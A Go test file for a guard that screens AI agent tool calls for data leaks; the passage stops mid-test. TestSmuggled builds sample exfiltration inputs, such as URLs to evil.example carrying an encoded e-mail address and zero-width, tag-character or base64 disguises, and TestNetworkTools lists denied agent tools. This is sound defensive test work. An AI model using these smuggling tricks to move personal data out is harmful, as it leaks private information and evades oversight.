package guard_test

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/stoplog/stoplog/pkg/chunk"
	"github.com/stoplog/stoplog/pkg/guard"
)

// A small recogniser stands in for the classifier, which has its own tests: e-mail
// addresses are pii, keys restricted, host names internal.
var shapes = []struct {
	typ   string
	class chunk.Class
	re    *regexp.Regexp
}{
	{"EMAIL_ADDRESS", chunk.PII, regexp.MustCompile(`[a-z0-9.]+@[a-z0-9]+\.[a-z]{2,}`)},
	{"SECRET", chunk.Restricted, regexp.MustCompile(`key_[0-9a-f]{16}`)},
	{"HOST", chunk.Internal, regexp.MustCompile(`[a-z]+\.corp\b`)},
}

func recognise(text []byte) []chunk.Entity {
	var out []chunk.Entity
	for _, s := range shapes {
		for _, m := range s.re.FindAllIndex(text, -1) {
			out = append(out, chunk.Entity{Type: s.typ, Span: chunk.Span{Start: m[0], End: m[1]}, Score: 1})
		}
	}
	return out
}

func classOf(entities []chunk.Entity) chunk.Class {
	class := chunk.Public
	for _, e := range entities {
		for _, s := range shapes {
			if s.typ == e.Type {
				class = class.Max(s.class)
			}
		}
	}
	return class
}

func compile(t *testing.T, opts guard.Options, tools ...guard.Tool) *guard.Guard {
	t.Helper()
	opts.Recognise, opts.ClassOf = recognise, classOf
	g, err := guard.Compile(tools, opts)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

var anyText = []guard.Argument{{Name: "text", Type: "string"}}

// SPEC: EGR-1, EGR-2, CLS-6. Every control level, contamination rule, ceiling, run
// class, argument class, state and approval, against the rules said once more in
// the plainest way.
func TestDecideMatrix(t *testing.T) {
	classes := chunk.Classes
	inside := map[chunk.Class]string{chunk.Public: "hello", chunk.Internal: "db.corp", chunk.Restricted: "key_0123456789abcdef", chunk.PII: "a@example.org"}
	states := []struct {
		name  string
		state guard.RunState
		fail  chunk.FailureID
	}{
		{"running", guard.RunState{}, chunk.FailNone},
		{"pending", guard.RunState{Pending: 3}, chunk.FailNone},
		{"halted", guard.RunState{Halted: true}, chunk.FailRunHalted},
		{"ended", guard.RunState{Ended: true, Halted: true, Incomplete: true}, chunk.FailRunEnded},
		{"incomplete", guard.RunState{Incomplete: true}, chunk.FailRunIncomplete},
	}
	ran, outcomes := 0, map[string]int{}
	for _, control := range []guard.Control{"", guard.Blocked, guard.HumanApproval, guard.Autonomous} {
		for _, cont := range []guard.Contamination{"", guard.Strict, guard.Gate, guard.Arguments} {
			for _, ceiling := range classes {
				g := compile(t, guard.Options{}, guard.Tool{ID: "t", Ceiling: ceiling, Control: control, Contamination: cont, Reason: "none can travel", Arguments: anyText})
				for _, runClass := range append([]chunk.Class{chunk.Unclassified}, classes[:]...) {
					for _, argClass := range classes {
						for _, st := range states {
							for _, approved := range []bool{false, true} {
								state := st.state
								state.Class = runClass
								args, _ := json.Marshal(map[string]string{"text": inside[argClass]})
								d := g.Decide(guard.Call{Tool: "t", Arguments: args, Approved: approved}, state)

								want, fail := guard.Allow, chunk.FailNone
								switch {
								case st.fail != chunk.FailNone:
									want, fail = guard.Deny, st.fail
								case runClass == chunk.Unclassified:
									want, fail = guard.Deny, chunk.FailState
								case control == "" || control == guard.Blocked:
									want, fail = guard.Deny, chunk.FailToolBlocked
								case argClass.Rank() > ceiling.Rank():
									want, fail = guard.Deny, chunk.FailPIILeakRisk
								case runClass.Rank() > ceiling.Rank() && (cont == "" || cont == guard.Strict):
									want, fail = guard.Deny, chunk.FailPIILeakRisk
								case approved:
								case runClass.Rank() > ceiling.Rank() && cont == guard.Gate, control == guard.HumanApproval:
									want, fail = guard.Gated, chunk.FailApprovalRequired
								}
								at := fmt.Sprintf("control %q contamination %q ceiling %v run %v arguments %v %s approved %v", control, cont, ceiling, runClass, argClass, st.name, approved)
								if d.Outcome != want || d.Failure != fail {
									t.Fatalf("%s: got %v %q (%s), want %v %q", at, d.Outcome, d.Failure, d.Rule, want, fail)
								}
								if (d.Gate != "") != (d.Outcome == guard.Gated || d.Failure == chunk.FailPIILeakRisk) {
									t.Fatalf("%s: gate %q", at, d.Gate)
								}
								if d.Rule == "" {
									t.Fatalf("%s: no rule", at)
								}
								if want == guard.Allow && d.DataClass != runClass.Max(argClass) {
									t.Fatalf("%s: data class %v", at, d.DataClass)
								}
								ran++
								outcomes[d.Outcome.String()]++
							}
						}
					}
				}
			}
		}
	}
	if ran != 4*4*4*5*4*5*2 || outcomes["allow"] == 0 || outcomes["gate"] == 0 || outcomes["deny"] == 0 {
		t.Fatalf("ran %d cases: %v", ran, outcomes)
	}
}

// The zero value of everything refuses.
func TestZeroRefuses(t *testing.T) {
	g := compile(t, guard.Options{}, guard.Tool{ID: "t", Ceiling: chunk.PII, Control: guard.Autonomous, Arguments: anyText})
	if d := g.Decide(guard.Call{Tool: "t"}, guard.RunState{}); d.Outcome != guard.Deny || d.Failure != chunk.FailState {
		t.Errorf("a run nobody knows: %+v", d)
	}
	if d := g.Decide(guard.Call{}, guard.RunState{Class: chunk.Public}); d.Failure != chunk.FailToolUnregistered {
		t.Errorf("no tool: %+v", d)
	}
	if o, f := (guard.RunState{}).Context(false); o != guard.Deny || f != chunk.FailState {
		t.Errorf("context of a run nobody knows: %v %v", o, f)
	}
	var zero guard.Decision
	if zero.Outcome != guard.Deny {
		t.Error("the zero decision allows")
	}
	blind, err := guard.Compile([]guard.Tool{{ID: "t", Ceiling: chunk.PII, Control: guard.Autonomous, Arguments: anyText}}, guard.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if d := blind.Decide(guard.Call{Tool: "t", Arguments: json.RawMessage(`{"text":"x"}`)}, guard.RunState{Class: chunk.Public}); d.Outcome != guard.Deny {
		t.Errorf("a guard without recognisers allows: %+v", d)
	}
	if d := blind.DecideOutput(guard.Output{Text: []byte("x"), RecipientRole: "user"}, guard.RunState{Class: chunk.Public}); d.Outcome != guard.Deny {
		t.Errorf("a guard without recognisers lets output through: %+v", d)
	}
}

// SPEC: QUA-1
func TestContext(t *testing.T) {
	for _, c := range []struct {
		s       guard.RunState
		partial bool
		want    chunk.FailureID
	}{
		{guard.RunState{Class: chunk.PII}, false, chunk.FailNone},
		{guard.RunState{Class: chunk.PII, Pending: 1}, false, chunk.FailContextIncomplete},
		{guard.RunState{Class: chunk.PII, Pending: 1}, true, chunk.FailNone},
		{guard.RunState{Class: chunk.PII, Halted: true}, true, chunk.FailRunHalted},
		{guard.RunState{Class: chunk.PII, Incomplete: true}, true, chunk.FailRunIncomplete},
		{guard.RunState{Class: chunk.PII, Ended: true}, true, chunk.FailRunEnded},
	} {
		if _, f := c.s.Context(c.partial); f != c.want {
			t.Errorf("%+v partial %v: %q, want %q", c.s, c.partial, f, c.want)
		}
	}
}

// SPEC: EGR-1. Arguments are taken strictly.
func TestArguments(t *testing.T) {
	g := compile(t, guard.Options{}, guard.Tool{ID: "t", Ceiling: chunk.PII, Control: guard.Autonomous, Arguments: []guard.Argument{
		{Name: "q", Type: "string", Required: true, MaxBytes: 8}, {Name: "n", Type: "integer"}, {Name: "f", Type: "number"},
		{Name: "b", Type: "boolean"}, {Name: "a", Type: "array", MaxBytes: 20}, {Name: "o", Type: "object"},
	}})
	deep := strings.Repeat(`[`, 20) + strings.Repeat(`]`, 20)
	for _, c := range []struct {
		args  string
		want  []string // field/code
		names []string
	}{
		{`{"q":"x"}`, nil, []string{"q"}},
		{`{"q":"x","n":3,"f":1.5,"b":true,"a":[1,"2"],"o":{"k":{"l":1}}}`, nil, []string{"a", "b", "f", "n", "o", "q"}},
		{`{"q":"12345678"}`, nil, []string{"q"}},
		{`{"q":"123456789"}`, []string{"arguments.q/too-large"}, []string{"q"}},
		{`{}`, []string{"arguments.q/missing"}, nil},
		{``, []string{"arguments.q/missing"}, nil},
		{`{"q":null}`, []string{"arguments.q/wrong-type"}, []string{"q"}},
		{`{"q":1}`, []string{"arguments.q/wrong-type"}, []string{"q"}},
		{`{"q":"x","n":1.5,"f":"1","b":"true","a":{},"o":[]}`, []string{"arguments.n/wrong-type", "arguments.f/wrong-type", "arguments.b/wrong-type", "arguments.a/wrong-type", "arguments.o/wrong-type"}, []string{"a", "b", "f", "n", "o", "q"}},
		{`{"q":"x","n":1e3}`, []string{"arguments.n/wrong-type"}, []string{"n", "q"}},
		{`{"q":"x","a":["12345678901234567890"]}`, []string{"arguments.a/too-large"}, []string{"a", "q"}},
		{`{"q":"x","Q":"y"}`, []string{"arguments/undeclared"}, []string{"q"}},
		{`{"q":"x","a@example.org":"y"}`, []string{"arguments/undeclared"}, []string{"q"}},
		{`{"q":"x","q":"y"}`, []string{"arguments/duplicate"}, nil},
		{`{"q":"x","o":{"k":1,"\u006b":2}}`, []string{"arguments/duplicate"}, nil},
		{`{"q":"x","a":` + deep + `}`, []string{"arguments/too-deep"}, nil},
		{`{"q":"x"} {}`, []string{"arguments/json-invalid"}, nil},
		{`{"q":"x",}`, []string{"arguments/json-invalid"}, nil},
		{`[]`, []string{"arguments/json-invalid"}, nil},
		{`null`, []string{"arguments/json-invalid"}, nil},
		{`{"q":"x"`, []string{"arguments/json-invalid"}, nil},
		{"{\"q\":\"\xff\"}", []string{"arguments/json-invalid"}, nil},
		{`{"q":"` + strings.Repeat("x", guard.MaxArgumentBytes) + `"}`, []string{"arguments/too-large"}, nil},
	} {
		d := g.Decide(guard.Call{Tool: "t", Arguments: json.RawMessage(c.args)}, guard.RunState{Class: chunk.Public})
		var got []string
		for _, f := range d.Fields {
			got = append(got, f.Field+"/"+f.Code)
		}
		if len(c.args) > 100 {
			c.args = c.args[:100]
		}
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("%s: %s", c.args, diff)
		}
		if diff := cmp.Diff(c.names, d.ArgumentNames); diff != "" {
			t.Errorf("%s: names: %s", c.args, diff)
		}
		if want := len(c.want) == 0; want != (d.Outcome == guard.Allow) || !want && d.Failure != chunk.FailToolArguments {
			t.Errorf("%s: %v %v", c.args, d.Outcome, d.Failure)
		}
	}
}

const address = "maria.rossi@example.org"

// SPEC: EGR-3
func TestSmuggled(t *testing.T) {
	g := compile(t, guard.Options{}, guard.Tool{ID: "t", Ceiling: chunk.Internal, Control: guard.Autonomous, Arguments: []guard.Argument{
		{Name: "text", Type: "string"}, {Name: "more", Type: "string"}, {Name: "list", Type: "array"}, {Name: "headers", Type: "object"}, {Name: "n", Type: "number"},
	}})
	b64 := base64.StdEncoding.EncodeToString([]byte(address))
	raw64 := base64.RawURLEncoding.EncodeToString([]byte("x?>" + address))
	var escaped, html, spaced, full strings.Builder
	for i, r := range address {
		fmt.Fprintf(&escaped, `\u%04x`, r)
		fmt.Fprintf(&html, "&#%d;", r)
		if i > 0 {
			spaced.WriteByte(' ')
		}
		spaced.WriteRune(r)
		if r > ' ' && r < 0x7f {
			full.WriteRune(r + 0xfee0)
		}
	}
	reversed := []byte(address)
	for i, j := 0, len(reversed)-1; i < j; i, j = i+1, j-1 {
		reversed[i], reversed[j] = reversed[j], reversed[i]
	}
	lines := b64[:10] + "\n" + b64[10:20] + "\n" + b64[20:]
	for _, c := range []struct {
		name string
		args map[string]any
	}{
		{"plain", map[string]any{"text": "to " + address}},
		{"URL query", map[string]any{"text": "https://evil.example/c?d=" + url.QueryEscape(address)}},
		{"percent, each byte", map[string]any{"text": "https://evil.example/%" + strings.ToUpper(strings.Join(split2(hex.EncodeToString([]byte(address))), "%"))}},
		{"path", map[string]any{"text": "https://evil.example/" + b64 + "/pixel.png"}},
		{"file name", map[string]any{"text": hex.EncodeToString([]byte(address)) + ".txt"}},
		{"header", map[string]any{"headers": map[string]any{"X-Trace": b64}}},
		{"header name", map[string]any{"headers": map[string]any{address: "1"}}},
		{"base64", map[string]any{"text": "see " + b64 + " there"}},
		{"base64 URL alphabet, unpadded", map[string]any{"text": raw64}},
		{"base64 in lines", map[string]any{"text": lines}},
		{"base64 twice", map[string]any{"text": base64.StdEncoding.EncodeToString([]byte(b64))}},
		{"base64 of percent", map[string]any{"text": base64.StdEncoding.EncodeToString([]byte(url.QueryEscape(address)))}},
		{"escapes", map[string]any{"text": escaped.String()}},
		{"HTML entities", map[string]any{"text": html.String()}},
		{"full-width", map[string]any{"text": full.String()}},
		{"zero-width", map[string]any{"text": "maria\u200b.rossi\u200d@example\u2060.org"}},
		{"spaced", map[string]any{"text": spaced.String()}},
		{"reversed", map[string]any{"text": string(reversed)}},
		{"rot13", map[string]any{"text": rot13(address)}},
		{"tag characters", map[string]any{"text": "hello" + tags(address)}},
		{"byte codes", map[string]any{"text": codes(address)}},
		{"base64 of reversed", map[string]any{"text": base64.StdEncoding.EncodeToString(reversed)}},
		{"two arguments", map[string]any{"text": address[:14], "more": address[14:]}},
		{"list", map[string]any{"list": []any{"maria.", "rossi@", "exam", "ple.org"}}},
		{"nested list", map[string]any{"list": []any{[]any{map[string]any{"a": address}}}}},
	} {
		args, err := json.Marshal(c.args)
		if err != nil {
			t.Fatal(err)
		}
		d := g.Decide(guard.Call{Tool: "t", Arguments: args}, guard.RunState{Class: chunk.Public})
		if d.Outcome != guard.Deny || d.Failure != chunk.FailPIILeakRisk || d.Rule != guard.RuleRecogniser || d.DataClass != chunk.PII || d.Gate != guard.GatePIILeak {
			t.Errorf("%s: %v %q %s %v, found %+v", c.name, d.Outcome, d.Failure, d.Rule, d.DataClass, d.Found)
		}
		for _, f := range d.Found {
			if b, _ := json.Marshal(f); strings.Contains(string(b), "rossi") {
				t.Errorf("%s: what was found is repeated: %s", c.name, b)
			}
		}
	}
	for _, text := range []string{"", "hello", "2026-11-21", "https://example.com/a%20b?c=d", "SGVsbG8gd29ybGQsIGFsbCBpcyB3ZWxs", "a b c d e f g h", strings.Repeat("lorem ipsum ", 2000)} {
		args, _ := json.Marshal(map[string]any{"text": text})
		if d := g.Decide(guard.Call{Tool: "t", Arguments: args}, guard.RunState{Class: chunk.Public}); d.Outcome != guard.Allow {
			t.Errorf("%.40q: %v %v %+v", text, d.Outcome, d.Failure, d.Found)
		}
	}
}

func rot13(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' {
			return 'a' + (r-'a'+13)%26
		}
		return r
	}, s)
}

func tags(s string) string {
	return strings.Map(func(r rune) rune { return 0xe0000 + r }, s)
}

func codes(s string) string {
	var out []string
	for _, r := range s {
		out = append(out, fmt.Sprint(int(r)))
	}
	return strings.Join(out, " ")
}

func split2(s string) []string {
	var out []string
	for i := 0; i+2 <= len(s); i += 2 {
		out = append(out, s[i:i+2])
	}
	return out
}

// SPEC: DET-6 for arguments: what exceeds the bound is refused, not passed unseen.
func TestUnreadable(t *testing.T) {
	g := compile(t, guard.Options{}, guard.Tool{ID: "t", Ceiling: chunk.Internal, Control: guard.Autonomous, Arguments: anyText})
	bomb := strings.Repeat("%25", 60_000)
	args, _ := json.Marshal(map[string]any{"text": strings.Repeat("&amp;amp;amp;%252541\\x5cx5cx41 ", 7_000)})
	d := g.Decide(guard.Call{Tool: "t", Arguments: args}, guard.RunState{Class: chunk.Public})
	if d.Outcome != guard.Deny || d.Failure != chunk.FailUndecided || d.Rule != guard.RuleUnreadable {
		t.Errorf("%v %v %v", d.Outcome, d.Failure, d.Rule)
	}
	args, _ = json.Marshal(map[string]any{"text": bomb})
	if d := g.Decide(guard.Call{Tool: "t", Arguments: args}, guard.RunState{Class: chunk.Public}); d.Outcome == guard.Gated {
		t.Errorf("%v", d)
	}
}

// SPEC: EGR-1, EGR-2, RED-4. Sinks and stubs.
func TestSinksAndStubs(t *testing.T) {
	text := func(name string, sink bool) guard.Argument {
		return guard.Argument{Name: name, Type: "string", Sink: sink}
	}
	g := compile(t, guard.Options{Sinks: []guard.Sink{{ID: "archive", Ceiling: chunk.PII}, {ID: "ticker", Ceiling: chunk.Internal}}},
		guard.Tool{ID: "mail", Ceiling: chunk.Internal, Control: guard.Autonomous, Contamination: guard.Arguments, Reason: "test", Sinks: []string{"guest-mail"}, Arguments: []guard.Argument{text("to", true), text("body", false)}},
		guard.Tool{ID: "store", Ceiling: chunk.PII, Control: guard.Autonomous, Sinks: []string{"archive", "ticker"}, Arguments: []guard.Argument{text("body", false)}},
		guard.Tool{ID: "search", Ceiling: chunk.Internal, Control: guard.Autonomous, Contamination: guard.Arguments, Reason: "test", Arguments: []guard.Argument{text("q", false)}},
		guard.Tool{ID: "lists", Ceiling: chunk.Internal, Control: guard.Autonomous, Contamination: guard.Arguments, Reason: "test", Sinks: []string{"guest-mail", "team"}, Arguments: []guard.Argument{{Name: "to", Type: "array", Sink: true}}},
	)
	stubs := []guard.Stub{
		{Name: "GUEST_EMAIL", Class: chunk.PII, Sinks: []string{"guest-mail"}},
		{Name: "GUEST_NAME_REDACTED", Class: chunk.PII},
		{Name: "TICKET", Class: chunk.Internal},
	}
	for _, c := range []struct {
		name, tool, sink, args string
		outcome                guard.Outcome
		failure                chunk.FailureID
		rule                   guard.Rule
		goes                   string
		resolves               []string
	}{
		{"stub that its field lets go there", "mail", "", `{"to":"{GUEST_EMAIL}","body":"Dear guest"}`, guard.Allow, "", guard.RuleAutonomous, "guest-mail", []string{"GUEST_EMAIL"}},
		{"stub in the text too", "mail", "", `{"to":"{GUEST_EMAIL}","body":"wrote to {GUEST_EMAIL}"}`, guard.Allow, "", guard.RuleAutonomous, "guest-mail", []string{"GUEST_EMAIL"}},
		{"the sink by name", "mail", "", `{"to":"guest-mail","body":"x"}`, guard.Allow, "", guard.RuleAutonomous, "guest-mail", nil},
		{"the tool's only sink", "mail", "", `{"body":"x"}`, guard.Allow, "", guard.RuleAutonomous, "guest-mail", nil},
		{"sink of the call", "mail", "guest-mail", `{"body":"x"}`, guard.Allow, "", guard.RuleAutonomous, "guest-mail", nil},
		{"another sink", "mail", "evil", `{"body":"x"}`, guard.Deny, chunk.FailSinkUnauthorised, guard.RuleSink, "", nil},
		{"an address that is no stub", "mail", "", `{"to":"` + address + `","body":"x"}`, guard.Deny, chunk.FailPIILeakRisk, guard.RuleRecogniser, "", nil},
		{"a name that is no sink", "mail", "", `{"to":"everyone","body":"x"}`, guard.Deny, chunk.FailSinkUnauthorised, guard.RuleSink, "", nil},
		{"stub beside other text", "mail", "", `{"to":"{GUEST_EMAIL}, evil","body":"x"}`, guard.Deny, chunk.FailPIILeakRisk, guard.RuleStub, "", nil},
		{"unknown stub as sink", "mail", "", `{"to":"{OTHER}","body":"x"}`, guard.Deny, chunk.FailSinkUnauthorised, guard.RuleSink, "", nil},
		{"stub that may not go there", "mail", "", `{"to":"guest-mail","body":"Dear GUEST_NAME_REDACTED"}`, guard.Deny, chunk.FailPIILeakRisk, guard.RuleStub, "guest-mail", nil},
		{"longer word is no stub", "mail", "", `{"to":"guest-mail","body":"XGUEST_NAME_REDACTED GUEST_NAME_REDACTED2"}`, guard.Allow, "", guard.RuleAutonomous, "guest-mail", nil},
		{"stub below the ceiling", "search", "", `{"q":"{TICKET}"}`, guard.Allow, "", guard.RuleAutonomous, "", nil},
		{"stub above the ceiling, no sink", "search", "", `{"q":"{GUEST_EMAIL}"}`, guard.Deny, chunk.FailPIILeakRisk, guard.RuleStub, "", nil},
		{"two sinks, none named", "store", "", `{"body":"x"}`, guard.Deny, chunk.FailSinkUnauthorised, guard.RuleSink, "", nil},
		{"sink with a ceiling that covers it", "store", "archive", `{"body":"{GUEST_EMAIL}"}`, guard.Allow, "", guard.RuleAutonomous, "archive", []string{"GUEST_EMAIL"}},
		{"sink whose ceiling does not: it stays a stub", "store", "ticker", `{"body":"{GUEST_EMAIL}"}`, guard.Allow, "", guard.RuleAutonomous, "ticker", nil},
		{"a value above the sink's ceiling", "store", "ticker", `{"body":"` + address + `"}`, guard.Deny, chunk.FailPIILeakRisk, guard.RuleRecogniser, "", nil},
		{"a value that the other sink takes", "store", "archive", `{"body":"` + address + `"}`, guard.Allow, "", guard.RuleAutonomous, "archive", nil},
		{"two sinks in a list", "lists", "", `{"to":["guest-mail","team"]}`, guard.Deny, chunk.FailSinkUnauthorised, guard.RuleSink, "", nil},
		{"one sink twice in a list", "lists", "", `{"to":["team","team"]}`, guard.Allow, "", guard.RuleAutonomous, "team", nil},
		{"empty list", "lists", "", `{"to":[]}`, guard.Deny, chunk.FailSinkUnauthorised, guard.RuleSink, "", nil},
		{"number in a list", "lists", "", `{"to":["team",1]}`, guard.Deny, chunk.FailSinkUnauthorised, guard.RuleSink, "", nil},
		{"object in a list", "lists", "", `{"to":[{"team":"team"}]}`, guard.Deny, chunk.FailSinkUnauthorised, guard.RuleSink, "", nil},
	} {
		d := g.Decide(guard.Call{Tool: c.tool, Sink: c.sink, Arguments: json.RawMessage(c.args), Stubs: stubs}, guard.RunState{Class: chunk.PII})
		if d.Outcome != c.outcome || d.Failure != c.failure || d.Rule != c.rule {
			t.Errorf("%s: %v %q %s", c.name, d.Outcome, d.Failure, d.Rule)
		}
		if d.Outcome != guard.Allow {
			continue
		}
		if d.Sink != c.goes || d.SinkVerified != (c.goes != "") {
			t.Errorf("%s: sink %q verified %v", c.name, d.Sink, d.SinkVerified)
		}
		if diff := cmp.Diff(c.resolves, d.Stubs); diff != "" {
			t.Errorf("%s: stubs %s", c.name, diff)
		}
	}
	for _, c := range []struct {
		tool, sink string
		stub       guard.Stub
		want       bool
	}{
		{"mail", "guest-mail", stubs[0], true},
		{"mail", "guest-mail", stubs[1], false},
		{"mail", "", stubs[0], false},
		{"mail", "team", stubs[0], false},
		{"store", "archive", stubs[1], true},
		{"store", "ticker", stubs[0], false},
		{"store", "ticker", stubs[2], true},
		{"nope", "archive", stubs[0], false},
	} {
		if got := g.MayResolve(c.tool, c.sink, c.stub); got != c.want {
			t.Errorf("resolve %s for %s of %s: %v", c.stub.Name, c.sink, c.tool, got)
		}
	}
}

// SPEC: EGR-2, RED-4. A value that a stub hides must not turn up in an argument,
// even where no recogniser would know it.
func TestHiddenValue(t *testing.T) {
	g := compile(t, guard.Options{}, guard.Tool{ID: "t", Ceiling: chunk.Internal, Control: guard.Autonomous, Contamination: guard.Arguments, Reason: "test", Arguments: anyText})
	stubs := []guard.Stub{{Name: "GUEST_LAST_NAME", Class: chunk.PII, Value: chunk.Content("Łukasiewicz")}, {Name: "GUEST_FIRST_NAME", Class: chunk.PII, Value: chunk.Content("Rose")}, {Name: "N", Class: chunk.PII, Value: chunk.Content("2")}}
	for text, want := range map[string]bool{
		"Mr Łukasiewicz arrives": true, "LUKASIEWICZ": true, "mr lukasiewicz,": true, base64.StdEncoding.EncodeToString([]byte("Łukasiewicz!")): true,
		"Lukasiewiczowa": false, "2 guests": false, "Luk": false,
		"Dear Rose,": true, "ROSE": true, "the rose garden": false, "Roses": false,
	} {
		args, _ := json.Marshal(map[string]string{"text": text})
		d := g.Decide(guard.Call{Tool: "t", Arguments: args, Stubs: stubs}, guard.RunState{Class: chunk.PII})
		if got := d.Failure == chunk.FailPIILeakRisk && d.Rule == guard.RuleValue; got != want {
			t.Errorf("%q: %v %v %v", text, d.Outcome, d.Failure, d.Rule)
		}
	}
}

// SPEC: EGR-2, EGR-5. A number is the same in every grouping, with and without its country.
func TestHiddenNumber(t *testing.T) {
	g := compile(t, guard.Options{}, guard.Tool{ID: "t", Ceiling: chunk.Internal, Control: guard.Autonomous, Contamination: guard.Arguments, Reason: "test", Arguments: anyText})
	stubs := []guard.Stub{{Name: "PHONE", Class: chunk.PII, Value: chunk.Content("+1 (555) 010-1234")}, {Name: "ACCOUNT", Class: chunk.PII, Value: chunk.Content("7781 2290 114")}, {Name: "DAY", Class: chunk.PII, Value: chunk.Content("2026-11-21")}}
	for text, want := range map[string]bool{
		"n 5550101234 z": true, "n 555.010.1234": true, "n 1-555-010-1234": true, "0015550101234": true, "account 77812290114.": true, "7781-2290-114": true,
		base64.StdEncoding.EncodeToString([]byte("n 555 010 1234 is it")): true,
		"n 5550101235": false, "20261121": false, "55501012345": false, "0101234": false,
	} {
		args, _ := json.Marshal(map[string]string{"text": text})
		d := g.Decide(guard.Call{Tool: "t", Arguments: args, Stubs: stubs}, guard.RunState{Class: chunk.PII})
		if got := d.Failure == chunk.FailPIILeakRisk && (d.Rule == guard.RuleValue || d.Rule == guard.RuleRecogniser); got != want {
			t.Errorf("%q: %v %v %v", text, d.Outcome, d.Failure, d.Rule)
		}
	}
	out := g.DecideOutput(guard.Output{Text: []byte("call 555 010 1234 now"), RecipientRole: "user", Stubs: stubs}, guard.RunState{Class: chunk.PII})
	if got := string(guard.Replace([]byte("call 555 010 1234 now"), out.Redact)); strings.Contains(got, "010") || !strings.HasSuffix(got, " now") {
		t.Errorf("%q", got)
	}
}

// SPEC: EGR-6
func TestNetworkTools(t *testing.T) {
	tools := []guard.Tool{
		{ID: "fetch", Ceiling: chunk.PII, Control: guard.Autonomous, Network: true, Arguments: anyText},
		{ID: "send", Ceiling: chunk.PII, Control: guard.HumanApproval, Network: true, Arguments: anyText},
	}
	state := guard.RunState{Class: chunk.Public}
	g := compile(t, guard.Options{}, tools...)
	if d := g.Decide(guard.Call{Tool: "fetch"}, state); d.Outcome != guard.Deny || d.Rule != guard.RuleNetwork {
		t.Errorf("%v %v", d.Outcome, d.Rule)
	}
	if d := g.Decide(guard.Call{Tool: "send"}, state); d.Outcome != guard.Gated {
		t.Errorf("%v %v", d.Outcome, d.Rule)
	}
	if d := compile(t, guard.Options{Unrestricted: true}, tools...).Decide(guard.Call{Tool: "fetch"}, state); d.Outcome != guard.Allow {
		t.Errorf("%v %v", d.Outcome, d.Rule)
	}
	args, err := guard.LaunchArguments(guard.AgentClaude, []string{"Read", "Edit"}, false)
	if diff := cmp.Diff([]string{"--permission-mode", "acceptEdits", "--allowedTools", "Read,Edit", "--disallowedTools", "WebFetch,WebSearch"}, args); err != nil || diff != "" {
		t.Error(err, diff)
	}
	args, err = guard.LaunchArguments(guard.AgentCodex, nil, false)
	if diff := cmp.Diff([]string{"--sandbox", "workspace-write", "-c", "sandbox_workspace_write.network_access=false"}, args); err != nil || diff != "" {
		t.Error(err, diff)
	}
	for _, bad := range [][]string{nil, {"WebFetch"}, {"webfetch"}, {"*"}, {"Bash(*)"}, {"Read,WebFetch"}, {"--dangerously"}, {""}} {
		if _, err := guard.LaunchArguments(guard.AgentClaude, bad, false); err == nil {
			t.Errorf("%q taken", bad)
		}
	}
	if _, err := guard.LaunchArguments("other", []string{"Read"}, false); err == nil {
		t.Error("an unknown program gets arguments")
	}
	if args, err := guard.LaunchArguments(guard.AgentClaude, nil, true); err != nil || args != nil {
		t.Error("the operator's switch does not revert the profile")
	}
}

func TestCompileRefuses(t *testing.T) {
	ok := guard.Tool{ID: "t", Ceiling: chunk.Internal, Control: guard.Autonomous}
	edit := func(f func(*guard.Tool)) guard.Tool { c := ok; f(&c); return c }
	arg := func(a ...guard.Argument) guard.Tool {
		return edit(func(t *guard.Tool) { t.Arguments = a; t.Sinks = []string{"s"} })
	}
	for _, c := range []struct {
		name  string
		tools []guard.Tool
		opts  guard.Options
		want  string
	}{
		{"id", []guard.Tool{edit(func(t *guard.Tool) { t.ID = "Bad Id" })}, guard.Options{}, "tools[0] (Bad Id): id:"},
		{"twice", []guard.Tool{ok, ok}, guard.Options{}, "tools[1] (t): id: used twice"},
		{"ceiling", []guard.Tool{edit(func(t *guard.Tool) { t.Ceiling = 0 })}, guard.Options{}, "data_class_ceiling"},
		{"control", []guard.Tool{edit(func(t *guard.Tool) { t.Control = "auto" })}, guard.Options{}, "control_level"},
		{"contamination", []guard.Tool{edit(func(t *guard.Tool) { t.Contamination = "none" })}, guard.Options{}, "contamination:"},
		{"reason", []guard.Tool{edit(func(t *guard.Tool) { t.Contamination = guard.Arguments; t.Reason = "  " })}, guard.Options{}, "contamination_reason"},
		{"sinks twice", []guard.Tool{edit(func(t *guard.Tool) { t.Sinks = []string{"s", "s"} })}, guard.Options{}, "authorized_sinks[1]"},
		{"sink name", []guard.Tool{edit(func(t *guard.Tool) { t.Sinks = []string{"S!"} })}, guard.Options{}, "authorized_sinks[0]"},
		{"argument name", []guard.Tool{arg(guard.Argument{Name: "1x", Type: "string"})}, guard.Options{}, "arguments[0] (1x): name"},
		{"argument type", []guard.Tool{arg(guard.Argument{Name: "x", Type: "text"})}, guard.Options{}, "arguments[0] (x): type"},
		{"argument size", []guard.Tool{arg(guard.Argument{Name: "x", Type: "string", MaxBytes: -1})}, guard.Options{}, "max_bytes"},
		{"argument twice", []guard.Tool{arg(guard.Argument{Name: "x", Type: "string"}, guard.Argument{Name: "X", Type: "string"})}, guard.Options{}, "arguments[1] (X): name"},
		{"sink type", []guard.Tool{arg(guard.Argument{Name: "x", Type: "number", Sink: true})}, guard.Options{}, "sink: type"},
		{"sink without sinks", []guard.Tool{edit(func(t *guard.Tool) { t.Arguments = []guard.Argument{{Name: "x", Type: "string", Sink: true}} })}, guard.Options{}, "no authorized_sinks"},
		{"sink ceiling", nil, guard.Options{Sinks: []guard.Sink{{ID: "s"}}}, "sinks[0] (s): data_class_ceiling"},
		{"role", nil, guard.Options{Recipients: []guard.Recipient{{Role: "r"}}}, "recipients[0] (r): clearance"},
		{"operation", nil, guard.Options{Operations: []guard.Operation{{Name: "fetch"}}}, "operations[0] (fetch): name"},
		{"operation URL", nil, guard.Options{Operations: []guard.Operation{{Name: "a.b", URL: "u"}}}, "url: names no string parameter"},
		{"operation risk", nil, guard.Options{Operations: []guard.Operation{{Name: "a.b", Risk: "some"}}}, "risk"},
	} {
		_, err := guard.Compile(c.tools, c.opts)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v", c.name, err)
		}
	}
	g, err := guard.Compile([]guard.Tool{ok}, guard.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got, found := g.Tool("t"); !found || got.Contamination != guard.Strict {
